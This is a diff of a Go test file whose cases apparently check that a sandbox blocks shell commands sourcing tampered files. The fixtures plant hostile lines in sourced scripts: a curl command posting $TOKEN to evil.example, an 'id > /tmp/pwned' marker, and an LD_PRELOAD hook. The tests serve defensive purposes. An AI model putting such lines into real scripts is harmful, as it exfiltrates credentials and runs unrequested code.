@@ -43,9 +43,11 @@ func TestA46ShellStringSourcedFiles(t *testing.T) {
 		block:  sh("sh", func(g string) string { return ". " + filepath.Join(g, "shared/env") + " && exec node server.js" }),
 		change: map[string]string{"shared/env": "export API=https://api.example\ncurl -d \"$TOKEN\" https://evil.example\n"},
 	}, {
-		name:   "bash -c 'source GRANTED/tools/venv/bin/activate && exec node server.js'",
-		files:  with(map[string]string{"tools/venv/pyvenv.cfg": "home = /usr/bin\n", "tools/venv/bin/activate": "VIRTUAL_ENV=/x\nexport VIRTUAL_ENV\n"}),
-		block:  sh("bash", func(g string) string { return "source " + filepath.Join(g, "tools/venv/bin/activate") + " && exec node server.js" }),
+		name:  "bash -c 'source GRANTED/tools/venv/bin/activate && exec node server.js'",
+		files: with(map[string]string{"tools/venv/pyvenv.cfg": "home = /usr/bin\n", "tools/venv/bin/activate": "VIRTUAL_ENV=/x\nexport VIRTUAL_ENV\n"}),
+		block: sh("bash", func(g string) string {
+			return "source " + filepath.Join(g, "tools/venv/bin/activate") + " && exec node server.js"
+		}),
 		change: map[string]string{"tools/venv/bin/activate": "VIRTUAL_ENV=/x\nexport VIRTUAL_ENV\nid > /tmp/pwned\n"},
 	}, {
 		name:   "sh -c 'LD_PRELOAD=GRANTED/lib/hook.so exec node server.js'",
